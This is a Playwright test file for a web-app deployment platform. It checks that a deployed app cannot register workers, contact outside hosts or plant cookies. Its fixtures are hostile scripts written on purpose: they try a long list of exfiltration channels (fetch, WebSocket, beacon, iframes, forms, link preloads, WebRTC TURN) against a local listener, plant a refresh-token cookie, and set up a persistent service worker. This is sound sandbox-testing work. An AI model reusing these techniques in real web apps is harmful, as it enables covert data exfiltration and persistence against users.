import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { putLive, stopDeployment } from '../support/deployments';
import { startListener } from '../support/listener';
import { makeProject, saveFile } from '../support/projects';
import { expect, test } from '../support/test';

const PROMPT = 'a reading list with title, author and status (to read, reading, read)';

/** What code of a stranger would try at its own address: to run where no page is, and to send to somebody else. */
const hostileMain = (port: number) => `
const OUT = 'http://127.0.0.1:${port}';
if (typeof document === 'undefined') {
  fetch(OUT + '/from-a-worker', { mode: 'no-cors' }).catch(() => undefined);
  self.postMessage?.('runs');
  self.onconnect = (event) => event.ports[0].postMessage('runs');
  self.onfetch = (event) => event.respondWith(new Response('<h1>Still here</h1>', { headers: { 'content-type': 'text/html' } }));
} else {
  const list = document.createElement('ul');
  document.getElementById('root').append(list);
  const tell = (text) => { list.append(Object.assign(document.createElement('li'), { textContent: text })); };
  const attempt = async (name, run) => {
    const late = new Promise((resolve) => setTimeout(resolve, 3000, 'unanswered'));
    try { tell(name + ' ' + await Promise.race([run(), late])); } catch { tell(name + ' refused'); }
  };
  const answerOf = (worker, port = worker) => new Promise((resolve, reject) => {
    worker.onerror = reject;
    port.onmessage = () => resolve('runs');
  });
  const insert = (tag, properties) => new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), properties, { onload: () => resolve('loaded'), onerror: reject });
    document.body.append(element);
  });
  const blob = () => URL.createObjectURL(new Blob(["postMessage('runs')"], { type: 'text/javascript' }));
  const shared = (url) => { const worker = new SharedWorker(url); return answerOf(worker, worker.port); };
  const opened = (socket) => new Promise((resolve, reject) => { socket.onopen = () => resolve('open'); socket.onerror = reject; });
  (async () => {
    await attempt('service worker', () => navigator.serviceWorker.register('/app.js').then(() => 'registered'));
    await attempt('cached service worker', () => navigator.serviceWorker.register('/app.js', { updateViaCache: 'all', type: 'module' }).then(() => 'registered'));
    await attempt('worker', () => answerOf(new Worker('/app.js')));
    await attempt('module worker', () => answerOf(new Worker('/app.js', { type: 'module' })));
    await attempt('blob worker', () => answerOf(new Worker(blob())));
    await attempt('data worker', () => answerOf(new Worker("data:text/javascript,postMessage('runs')")));
    await attempt('shared worker', () => shared('/app.js'));
    await attempt('shared blob worker', () => shared(blob()));
    await attempt('fetch', () => fetch(OUT + '/fetch', { mode: 'no-cors' }).then(() => 'sent'));
    await attempt('socket', () => opened(new WebSocket(OUT.replace('http', 'ws') + '/socket')));
    await attempt('events', () => opened(new EventSource(OUT + '/events')));
    navigator.sendBeacon(OUT + '/beacon', 'x');
    await attempt('image', () => insert('img', { src: OUT + '/image' }));
    await attempt('frame', () => insert('iframe', { name: 'inner', src: OUT + '/frame' }).then(() => 'shown, maybe empty'));
    await attempt('script', () => insert('script', { src: OUT + '/script' }));
    await attempt('module', () => import(OUT + '/module'));
    await attempt('style', () => insert('link', { rel: 'stylesheet', href: OUT + '/style' }));
    for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'manifest', 'icon']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href: OUT + '/' + rel }));
    }
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: OUT + '/preload' }));
    document.body.append(Object.assign(document.createElement('video'), { src: OUT + '/video' }));
    document.body.append(Object.assign(document.createElement('object'), { data: OUT + '/object' }));
    const form = Object.assign(document.createElement('form'), { action: OUT + '/form', method: 'post', target: 'inner' });
    document.body.append(form);
    form.submit();
    await attempt('calls', async () => {
      const call = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:127.0.0.1:${port}' },
        { urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'a', credential: 'b' },
      ] });
      call.createDataChannel('x');
      await call.setLocalDescription(await call.createOffer());
      await new Promise((resolve) => { call.onicegatheringstatechange = () => call.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 1500); });
      return 'over';
    });
    document.cookie = 'tessera_refresh=planted; path=/; domain=localhost';
    tell('registrations ' + (await navigator.serviceWorker.getRegistrations()).length);
    document.body.append(Object.assign(document.createElement('a'), { href: OUT + '/link', textContent: 'Elsewhere' }));
    tell('end');
  })();
}
`;

test.use({ serviceWorkers: 'allow' });

test('[SAFE-05] a deployed application registers no worker, reaches nobody, and is gone when it is stopped', async ({
  page,
  request,
  signIn,
  context,
}) => {
  const listener = await startListener();
  const account = await signIn();
  const { projectId } = await makeProject(request, account, PROMPT);
  await saveFile(request, account, projectId, { path: 'src/main.tsx', text: hostileMain(listener.port) });
  const { id, url } = await putLive(request, account, projectId, `hostile-${randomUUID().slice(0, 8)}`);

  await page.goto(url);
  await expect(page.getByText('end', { exact: true })).toBeVisible();

  const workers = ['service', 'cached service', 'module', 'blob', 'data', 'shared', 'shared blob'];
  for (const kind of workers)
    await expect(page.getByText(`${kind} worker refused`, { exact: true })).toBeVisible();
  await expect(page.getByText('worker refused', { exact: true })).toBeVisible();
  await expect(page.getByText('registrations 0')).toBeVisible();
  await expect(page.getByText('fetch refused')).toBeVisible();
  expect(context.serviceWorkers()).toEqual([]);
  expect((await context.cookies()).filter(({ name }) => name.includes('tessera_refresh'))).toEqual([]);
  expect(listener.heard).toEqual([]);
  // What a visitor follows is theirs to follow; and it shows that the listener hears.
  await page.getByRole('link', { name: 'Elsewhere' }).click();
  await expect(page).toHaveTitle('Elsewhere');
  expect(listener.heard).toContain('GET /link');

  await stopDeployment(request, account, id);
  await page.goto(url);
  await expect(page.getByRole('heading', { name: 'Nothing is live here' })).toBeVisible();
  listener.close();
});

/** A server as it was before workers were refused. */
const OLD_SCRIPT = `
if (typeof document === 'undefined') {
  oninstall = () => skipWaiting();
  onactivate = (event) => event.waitUntil(clients.claim());
  onfetch = (event) => event.respondWith(new Response('<h1>Still here</h1>', { headers: { 'content-type': 'text/html' } }));
} else {
  navigator.serviceWorker.register('/app.js');
  navigator.serviceWorker.ready.then(() => { document.title = 'Registered'; });
}
`;

test('[SAFE-05] a service worker from before goes when it looks for an update', async ({
  baseURL,
  playwright,
  launchOptions,
}, testInfo) => {
  const old = createServer((request, response) => {
    const isScript = request.url === '/app.js';
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
    response.end(isScript ? OLD_SCRIPT : '<script src="/app.js"></script>');
  });
  await new Promise<void>((resolve) => old.listen(0, '127.0.0.1', resolve));
  const host = `${randomUUID().slice(0, 8)}.${new URL(baseURL ?? '').host}`;
  const profile = testInfo.outputPath('profile');
  const open = (rule: string) =>
    playwright.chromium.launchPersistentContext(profile, {
      ...launchOptions,
      args: [...(launchOptions.args ?? []), rule],
    });

  const { port } = old.address() as AddressInfo;
  const before = await open(`--host-resolver-rules=MAP ${host} 127.0.0.1:${port}`);
  const page = await before.newPage();
  await page.goto(`http://${host}/`);
  await expect(page).toHaveTitle('Registered');
  await before.close();
  old.close();
  old.closeAllConnections();

  const after = await open('--host-resolver-rules=');
  const again = await after.newPage();
  // Its update is looked for after the page that it answers; that clears it away.
  await expect(async () => {
    await again.goto(`http://${host}/`);
    await expect(again.getByRole('heading', { name: 'Nothing is live here' })).toBeVisible({ timeout: 1000 });
  }).toPass();
  await after.close();
});
